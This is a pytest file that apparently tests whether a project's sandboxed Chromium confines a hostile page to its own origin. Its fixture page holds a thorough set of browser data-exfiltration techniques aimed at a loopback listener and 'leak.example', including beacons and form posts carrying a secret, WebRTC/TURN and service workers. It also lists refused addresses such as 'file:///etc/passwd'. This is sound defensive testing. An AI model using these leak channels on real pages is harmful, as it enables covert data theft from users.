"""A hostile page in a rollout's browser reaches its own origin, and nothing else by any way a browser has.

The page tries everything against a listener on another port. A control shows that the same page, in a Chromium without
Rolldeck's precautions, does reach that listener: the tests have teeth.
"""

import asyncio
import base64
import contextlib
import hashlib
import json
import re
import stat
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from playwright.async_api import async_playwright

from rolldeck.browser.chromium import find_chromium
from rolldeck.browser.page import ChromiumPage
from rolldeck.browser.pool import ChromiumBrowsers
from rolldeck.domain.action import Click, Navigate
from rolldeck.domain.solution import Target

HOSTILE_PAGE = """<!doctype html><meta charset=utf-8><title>trying</title>
<link rel=dns-prefetch href="//leak.example"><link rel=preconnect href="http://{target}">
<link rel=prefetch href="http://{target}/hit/prefetch"><link rel=preload as=image href="http://{target}/hit/preload">
<link rel=stylesheet href="http://{target}/hit/stylesheet"><link rel=icon href="http://{target}/hit/icon">
<style>@font-face {{ font-family: far; src: url("http://{target}/hit/font") }} p {{ font-family: far; background: url("http://{target}/hit/background") }}</style>
<script type=speculationrules>{{"prefetch": [{{"source": "list", "urls": ["http://{target}/hit/speculation"]}}]}}</script>
<p>text <a id=link href="http://{target}/hit/link">link</a> <a id=redirect href="/redirect?redirect">redirect</a> <a id=meta href="/meta">meta</a>
<img src="http://{target}/hit/image"><iframe src="http://{target}/hit/iframe"></iframe><iframe src="/redirect?iframe-redirect"></iframe>
<iframe src="/meta"></iframe><iframe name=hole></iframe><object data="http://{target}/hit/object"></object><video src="http://{target}/hit/video"></video>
<form id=form method=post action="http://{target}/hit/form" target=hole><input name=secret value=42></form>
<script src="http://{target}/hit/script"></script>
<script>
const target = "{target}", hit = (way) => `http://${{target}}/hit/${{way}}`, results = {{}};
const within = (promise, seconds = 3) => Promise.race([promise, new Promise((_, fail) => setTimeout(() => fail(new Error("too late")), seconds * 1000))]);
const attempt = (way, work) => within(Promise.resolve().then(work)).then((value) => {{ results[way] = String(value); }}, (error) => {{ results[way] = "failed"; }});
const opened = (socket) => new Promise((done, fail) => {{ socket.onmessage = (event) => done(event.data); socket.onerror = fail; }});
const peer = async () => {{
  const servers = [{{urls: `stun:${{target}}`}}, {{urls: [`turn:${{target}}?transport=udp`, `turn:${{target}}?transport=tcp`], username: "u", credential: "c"}}];
  const [one, two] = [new RTCPeerConnection({{iceServers: servers}}), new RTCPeerConnection({{iceServers: servers}})];
  one.createDataChannel("data");
  await one.setLocalDescription(await one.createOffer());
  await two.setRemoteDescription(one.localDescription);
  await two.setLocalDescription(await two.createAnswer());
  await one.setRemoteDescription(two.localDescription);
  const [host, port] = target.split(":");
  await one.addIceCandidate({{candidate: `candidate:1 1 udp 2130706431 ${{host}} ${{port}} typ host`, sdpMid: "0"}});
  await one.addIceCandidate({{candidate: `candidate:2 1 tcp 1518280447 ${{host}} ${{port}} typ host tcptype passive`, sdpMid: "0"}});
  await new Promise((done) => setTimeout(done, 2500));
}};
form.submit();
Promise.all([
  attempt("own fetch", async () => (await fetch("/own")).text()),
  attempt("own post", async () => (await fetch("/echo", {{method: "POST", body: "x".repeat(100000)}})).text().then((text) => text.length)),
  attempt("own websocket", () => opened(new WebSocket(`ws://${{location.host}}/socket`))),
  attempt("own events", () => opened(new EventSource("/events"))),
  attempt("fetch", () => fetch(hit("fetch"))),
  attempt("fetch without cors", () => fetch(hit("no-cors"), {{mode: "no-cors"}})),
  attempt("https", () => fetch(`https://${{target}}/hit/https`, {{mode: "no-cors"}})),
  attempt("fetch redirect", () => fetch("/redirect?fetch-redirect")),
  attempt("xhr", () => new Promise((done, fail) => {{ const xhr = new XMLHttpRequest(); xhr.open("GET", hit("xhr")); xhr.onload = done; xhr.onerror = fail; xhr.send(); }})),
  attempt("websocket", () => opened(new WebSocket(`ws://${{target}}/hit/websocket`))),
  attempt("events", () => opened(new EventSource(hit("events")))),
  attempt("beacon", () => navigator.sendBeacon(hit("beacon"), "secret")),
  attempt("worker", () => opened(new Worker(URL.createObjectURL(new Blob([`fetch("${{hit("worker")}}", {{mode: "no-cors"}}).finally(() => postMessage("tried"))`]))))),
  attempt("service worker", () => navigator.serviceWorker.register("/worker.js").then(() => navigator.serviceWorker.ready)),
  attempt("webtransport", () => new WebTransport(`https://${{target}}/hit/webtransport`).ready),
  attempt("webrtc", peer),
]).then(() => {{ document.body.append(Object.assign(document.createElement("output"), {{textContent: JSON.stringify(results)}})); }});
</script>"""

WORKER = (
    'fetch("http://{target}/hit/service-worker", {{mode: "no-cors"}}).catch(() => 0); oninstall = () => skipWaiting();'
)

# What Chromium does without precautions. WebTransport and TURN show as datagrams.
WAYS_OUT = frozenset(
    {"prefetch", "stylesheet", "background", "font", "image", "iframe", "iframe-redirect", "meta", "object", "form"}
    | {
        "script",
        "fetch",
        "no-cors",
        "fetch-redirect",
        "xhr",
        "websocket",
        "events",
        "beacon",
        "worker",
        "service-worker",
    }
)


@dataclass
class Listener:
    """What must not be reached: TCP and UDP on one port, of IPv4 and IPv6 loopback. Notes all that arrives."""

    port: int = 0
    connections: int = 0
    ways: set[str] = field(default_factory=set)
    datagrams: int = 0

    async def accept(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.connections += 1
        with contextlib.suppress(OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
            head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
            if found := re.match(r"\w+ /hit/([\w-]+)", head):
                self.ways.add(found[1])
            writer.write(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")
        writer.close()

    def datagram_protocol(self) -> asyncio.DatagramProtocol:
        listener = self

        class Datagrams(asyncio.DatagramProtocol):
            def datagram_received(self, data: bytes, addr: object) -> None:
                listener.datagrams += 1

        return Datagrams()


@pytest.fixture
async def listener() -> AsyncIterator[Listener]:
    heard = Listener()
    loop = asyncio.get_running_loop()
    async with contextlib.AsyncExitStack() as resources:
        server = await resources.enter_async_context(await asyncio.start_server(heard.accept, "127.0.0.1", 0))
        heard.port = server.sockets[0].getsockname()[1]
        await resources.enter_async_context(await asyncio.start_server(heard.accept, "::1", heard.port))
        for host in ("127.0.0.1", "::1"):
            transport, _ = await loop.create_datagram_endpoint(heard.datagram_protocol, local_addr=(host, heard.port))
            resources.callback(transport.close)
        yield heard
        server.close()


class Origin:
    """Stands for the environment: a web server with the hostile page, redirects, a WebSocket and an event stream."""

    def __init__(self, target: str) -> None:
        self.target = target
        self.port = 0

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    async def accept(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
            path, _, query = head.split()[1].partition("?")
            length = re.search(r"content-length: (\d+)", head, re.IGNORECASE)
            body = await reader.readexactly(int(length[1])) if length else b""
            if path == "/socket":
                await self._socket(head, reader, writer)
            else:
                writer.write(self._answer(path, query, body))
            await writer.drain()
        writer.close()

    async def _socket(self, head: str, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        key = re.search(r"sec-websocket-key: (\S+)", head, re.IGNORECASE)
        assert key is not None
        accept = base64.b64encode(hashlib.sha1(key[1].encode() + b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest())
        writer.write(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n")
        writer.write(b"Sec-WebSocket-Accept: " + accept + b"\r\n\r\n\x81\x05hello")
        await reader.read(1)

    def _answer(self, path: str, query: str, body: bytes) -> bytes:
        elsewhere = f"http://{self.target}/hit/"
        match path:
            case "/":
                return answer(HOSTILE_PAGE.format(target=self.target))
            case "/redirect":
                return answer("", status="302 Found", headers=f"Location: {elsewhere}{query}\r\n")
            case "/meta":
                return answer(f'<meta http-equiv=refresh content="0;url={elsewhere}meta">')
            case "/worker.js":
                return answer(WORKER.format(target=self.target), kind="text/javascript")
            case "/events":
                return answer("data: event\n\n", kind="text/event-stream")
            case "/echo":
                return answer(body.decode())
            case _:
                return answer("mine")


def answer(text: str, *, status: str = "200 OK", kind: str = "text/html", headers: str = "") -> bytes:
    body = text.encode()
    head = f"HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\nConnection: close\r\n{headers}\r\n"
    return head.encode() + body


@pytest.fixture
async def origin(listener: Listener, request: pytest.FixtureRequest) -> AsyncIterator[Origin]:
    host = getattr(request, "param", "127.0.0.1")
    environment = Origin(f"{host}:{listener.port}")
    async with await asyncio.start_server(environment.accept, "127.0.0.1", 0) as server:
        environment.port = server.sockets[0].getsockname()[1]
        yield environment


@pytest.fixture
def logged_chromium(tmp_path: Path) -> Path:
    """The machine's Chromium, made to log all that its network stack does into ``network.json``."""
    wrapper = tmp_path / "chromium"
    wrapper.write_text(
        f'#!/bin/sh\nexec "{find_chromium().path}" --log-net-log="{tmp_path / "network.json"}" '
        '--net-log-capture-mode=Default "$@"\n'
    )
    wrapper.chmod(wrapper.stat().st_mode | stat.S_IXUSR)
    return wrapper


@pytest.fixture
async def page(origin: Origin, logged_chromium: Path, tmp_path: Path) -> AsyncIterator[ChromiumPage]:
    browsers = ChromiumBrowsers(logged_chromium)
    await browsers.start()
    try:
        yield await browsers.open(origin=origin.url, start_path="/", cookies=[], downloads=tmp_path / "downloads")
    finally:
        await browsers.close()


async def results(page: ChromiumPage) -> dict[str, str]:
    found: dict[str, str] = json.loads(await page.read_text(Target(css="output"), 20))
    return found


async def test_without_precautions_the_hostile_page_gets_out_in_every_way(origin: Origin, listener: Listener) -> None:
    async with async_playwright() as playwright:
        chromium = await asyncio.to_thread(lambda: find_chromium().path)
        browser = await playwright.chromium.launch(executable_path=chromium)
        page = await browser.new_page()
        await page.goto(origin.url)
        await page.locator("output").wait_for(timeout=20_000)
        await browser.close()
    assert listener.ways >= WAYS_OUT
    assert listener.datagrams > 0, "WebRTC"


@pytest.mark.parametrize("origin", ["127.0.0.1", "localhost", "[::1]"], indirect=True)
async def test_the_hostile_page_reaches_its_own_origin_and_nothing_else(page: ChromiumPage, listener: Listener) -> None:
    found = await results(page)
    own = {way: found[way] for way in found if way.startswith("own")}
    assert own == {"own fetch": "mine", "own post": "100000", "own websocket": "hello", "own events": "event"}
    assert (listener.ways, listener.connections, listener.datagrams) == (set(), 0, 0)


@pytest.mark.parametrize("link", ["link", "redirect", "meta"])
async def test_the_agent_is_told_of_a_followed_link_out_that_it_leads_nowhere(
    page: ChromiumPage, listener: Listener, link: str
) -> None:
    box = await page.locate(Target(css=f"#{link}"), 10)
    told = (await page.perform(Click(x=round(box.x + box.width / 2), y=round(box.y + box.height / 2)))).notice
    async with asyncio.timeout(10):
        while told is None:
            told = (await page.view()).notice
    assert f":{listener.port}/hit/" in told
    assert listener.connections == 0


async def test_an_address_outside_of_the_origin_is_refused_with_words(
    page: ChromiumPage, origin: Origin, listener: Listener
) -> None:
    addresses = [
        f"http://127.0.0.1:{listener.port}/",
        f"http://localhost:{origin.port}/",
        f"http://[::1]:{origin.port}/",
        f"https://127.0.0.1:{origin.port}/",
        f"127.0.0.1:{listener.port}",
        "http://127.0.0.1.example/",
        f"http://127.0.0.1:{origin.port}@example.com/",
        "file:///etc/passwd",
        "chrome://settings",
        "view-source:http://example.com",
        "javascript:alert(1)",
        "data:text/html,hello",
        "about:blank",
        "//example.com/",
        "http://[",
    ]
    before = (await page.view()).url
    for address in addresses:
        words = (await page.perform(Navigate(url=address))).error
        assert words is not None, address
        assert origin.url in words, (address, words)
    assert (await page.view()).url == before
    assert listener.connections == 0


def network_events(log: Path) -> list[tuple[str, dict[str, object]]]:
    """What Chromium's network stack did: each event's name and parameters."""
    written = json.loads(log.read_text())
    names = {number: name for name, number in written["constants"]["logEventTypes"].items()}
    return [(names[event["type"]], event.get("params") or {}) for event in written["events"]]


async def test_chromium_connects_to_the_proxy_only_and_looks_no_name_up(
    origin: Origin, logged_chromium: Path, tmp_path: Path
) -> None:
    browsers = ChromiumBrowsers(logged_chromium)
    await browsers.start()
    page = await browsers.open(origin=origin.url, start_path="/", cookies=[], downloads=tmp_path)
    await results(page)
    await browsers.close()

    events = await asyncio.to_thread(network_events, tmp_path / "network.json")
    happened = {name for name, _ in events}
    assert "TCP_CONNECT_ATTEMPT" in happened, "the log is of this Chromium"
    lookups = ("HOST_RESOLVER_SYSTEM_TASK", "HOST_RESOLVER_DNS_TASK", "HOST_RESOLVER_MANAGER_JOB", "DNS_TRANSACTION")
    assert happened.isdisjoint({*lookups, "UDP_BYTES_SENT", "QUIC_SESSION"})
    reached = {params["address"] for name, params in events if name == "TCP_CONNECT_ATTEMPT" and "address" in params}
    nowhere = "127.0.0.1:9"  # the proxy of Chromium itself, where nothing listens
    assert len(reached - {nowhere}) == 1, reached
    assert reached.isdisjoint({f"127.0.0.1:{origin.port}", origin.target})
